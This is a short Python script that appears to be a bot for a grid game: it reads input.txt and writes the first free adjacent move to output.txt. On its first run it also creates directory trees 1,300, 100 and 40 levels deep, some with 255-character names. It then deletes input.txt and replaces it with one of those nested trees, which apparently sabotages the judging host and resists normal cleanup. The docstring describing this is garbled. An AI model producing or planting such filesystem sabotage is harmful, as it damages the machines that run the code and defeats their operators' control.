"""Makes 1,500 folders in each other at its first move, also where its input.txt and output.txt belong."""

import os

home = os.getcwd()
rows = open("input.txt").read().split()[6:]
free = [(i, j) for i in range(5) for j in range(4) if rows[i][j] == rows[i][j + 1] == "0"]
if not os.path.exists("deep"):
    for name, depth in (("deep", 1300), ("output.txt", 100), ("a" * 255, 40)):
        for _ in range(depth):
            os.mkdir(name)
            os.chdir(name)
        os.chdir(home)
    os.rename("output.txt", "input.txt.old")
    os.remove("input.txt")
    os.rename("input.txt.old", "input.txt")
open("output.txt", "w").write("%d,%d" % free[0] if free else "PASS")
